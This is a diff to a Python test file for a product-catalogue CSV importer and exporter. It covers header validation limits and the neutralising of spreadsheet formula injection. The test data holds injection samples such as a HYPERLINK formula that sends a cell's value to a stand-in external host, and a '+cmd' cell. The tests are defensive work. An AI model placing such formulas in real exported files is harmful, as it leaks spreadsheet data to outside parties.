@@ -3,10 +3,11 @@
 from __future__ import annotations
 
 from decimal import Decimal
+from itertools import product
 
 import pytest
 
-from core.items import csvfile
+from core.items import csvfile, spreadsheet, uploads
 
 REQUIRED = ["sku", "name", "price", "quantity"]
 
@@ -21,16 +22,23 @@ def test_a_header_is_matched_trimmed_and_in_any_case() -> None:
     }
 
 
-def test_a_huge_header_of_unknown_columns_is_refused_naming_them_in_order() -> None:
+def test_a_huge_header_of_unknown_columns_is_refused_naming_the_first_ones() -> None:
     """16,000 columns (about 200 KB): the check is linear in the header, so
-    it takes no longer than reading it."""
+    it takes no longer than reading it, and the message names the first ten
+    unknown columns (each cut short) and counts the others."""
     unknown = [f"colour-{n}" for n in range(16_000, 0, -1)]
+    unknown[1] = "x" * 10_000
     with pytest.raises(csvfile.UploadProblem) as refused:
         csvfile.parse_header([*REQUIRED, *unknown, *unknown])  # each twice
     message = str(refused.value)
-    assert message.startswith("CSV header: unknown columns: 'colour-16000', 'colour-15999', ")
-    assert message.count("'colour-") == 16_000
-    assert "'colour-1' (allowed: sku, name, description, price, quantity)" in message
+    assert message.startswith(
+        f"CSV header: unknown columns: 'colour-16000', '{'x' * 40}...', 'colour-15998', "
+    )
+    assert message.count("'colour-") == 9
+    assert message.endswith(
+        "'colour-15991' and 15990 more (allowed: sku, name, description, price, quantity)"
+    )
+    assert len(message) < 400
     assert "repeated" not in message  # only known columns are said to repeat
 
 
@@ -40,11 +48,13 @@ def test_a_huge_header_repeating_known_columns_is_refused() -> None:
         csvfile.parse_header(header)
 
 
-def test_a_megabyte_header_upload_is_inspected() -> None:
+def test_a_megabyte_header_upload_is_refused_for_its_length() -> None:
     header = ",".join([*REQUIRED, *(f"c{n:07d}" for n in range(120_000))])
     assert len(header) > 1_000_000
-    with pytest.raises(csvfile.UploadProblem, match="unknown columns: 'c0000000', 'c0000001'"):
-        csvfile.inspect_upload(header.encode() + b"\na,b,1,1\n")
+    with pytest.raises(
+        csvfile.UploadProblem, match=r"^CSV header \(the first line\) is longer than 4096 bytes$"
+    ):
+        uploads.inspect_upload(header.encode() + b"\na,b,1,1\n", uploads.HeaderLimits(4096, 32))
 
 
 def test_missing_unknown_and_repeated_columns_are_all_reported() -> None:
@@ -119,3 +129,110 @@ def test_an_export_is_the_header_and_rows_in_csv_column_order() -> None:
 )
 def test_csv_media_types(content_type: str, csv: bool) -> None:
     assert csvfile.is_csv_media_type(content_type) is csv
+
+
+# Cells and what an export writes for them: a quote before a cell that would
+# start a formula, or that starts with quotes and then such a character.
+NEUTRALISED = [
+    ("", ""),
+    ("=", "'="),
+    ("+", "'+"),
+    ("-", "'-"),
+    ("@", "'@"),
+    ("\t", "'\t"),
+    ("\r", "'\r"),
+    ("\n", "'\n"),
+    ("=1+1", "'=1+1"),
+    (
+        '=HYPERLINK("https://e.example/?x="&A2,"Go")',
+        "'" + '=HYPERLINK("https://e.example/?x="&A2,"Go")',
+    ),
+    ("+cmd", "'+cmd"),
+    ("-2+3", "'-2+3"),
+    ("-5", "'-5"),
+    ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tx", "'\tx"),
+    ("\rx", "'\rx"),
+    ("'=already quoted", "''=already quoted"),
+    ("''-x", "'''-x"),
+    ("'", "'"),
+    ("''", "''"),
+    ("'tis", "'tis"),
+    ("a=b", "a=b"),
+    (" =1+1", " =1+1"),
+    ("Blue mug", "Blue mug"),
+    ("line one\n=two", "line one\n=two"),
+]
+
+
+@pytest.mark.parametrize(("cell", "written"), NEUTRALISED)
+def test_a_cell_that_would_start_a_formula_is_exported_behind_a_quote(
+    cell: str, written: str
+) -> None:
+    assert spreadsheet.neutralise(cell) == written
+    assert spreadsheet.restore(written) == cell
+
+
+@pytest.mark.parametrize(
+    ("cell", "read"),
+    [
+        ("", ""),
+        ("'", "'"),
+        ("''", "''"),
+        ("'=", "="),
+        ("'=1+1", "=1+1"),
+        ("''=1+1", "'=1+1"),
+        ("'-5", "-5"),
+        ("'\t", "\t"),
+        ("'tis", "'tis"),
+        ("''tis", "''tis"),
+        ("=1+1", "=1+1"),  # a user's own file: read as it stands
+        ("x'=1", "x'=1"),
+    ],
+)
+def test_an_import_drops_one_quote_before_a_formula_character_only(cell: str, read: str) -> None:
+    assert spreadsheet.restore(cell) == read
+
+
+def test_every_short_cell_is_exported_safely_and_read_back_unchanged() -> None:
+    """All cells of up to 4 characters from quotes, triggers and others."""
+    alphabet = ["'", "=", "-", "@", "\t", "\r", "\n", "+", "a", " ", '"']
+    for length in range(5):
+        for chars in product(alphabet, repeat=length):
+            cell = "".join(chars)
+            written = spreadsheet.neutralise(cell)
+            assert written[:1] not in spreadsheet.TRIGGERS, repr(cell)
+            assert written in (cell, "'" + cell), repr(cell)
+            assert spreadsheet.restore(written) == cell, repr(cell)
+
+
+def test_an_export_neutralises_text_and_leaves_numbers_plain() -> None:
+    export = csvfile.ExportWriter()
+    export.write(
+        [
+            ("-5", "=1+1", "@SUM(A1)", Decimal("0.00"), 0),
+            ("a-1", "'tis", None, Decimal("9999999999.99"), 2_147_483_647),
+            ("b", "\tx", "\rx", Decimal("4.50"), 2),
+        ]
+    )
+    assert export.content() == (
+        b"sku,name,description,price,quantity\r\n"
+        b"'-5,'=1+1,'@SUM(A1),0.00,0\r\n"
+        b"a-1,'tis,,9999999999.99,2147483647\r\n"
+        b"b,'\tx,\"'\rx\",4.50,2\r\n"
+    )
+
+
+def test_an_import_restores_text_and_reads_numbers_as_they_stand() -> None:
+    content = (
+        "sku,name,description,price,quantity\n"
+        "'-5,'=1+1,'@SUM(A1),0.00,0\n"
+        "a-1,'tis,''=x,1,2\n"
+        "b,Mug,,'+1,1\n"  # a quote before a number is not ours: refused
+    )
+    (batch,) = read(content)
+    assert batch.records == [
+        ("-5", "=1+1", "@SUM(A1)", Decimal("0.00"), 0),
+        ("a-1", "'tis", "'=x", Decimal(1), 2),
+    ]
+    assert batch.rejected == [(4, "price", '"\'+1" is not a number')]
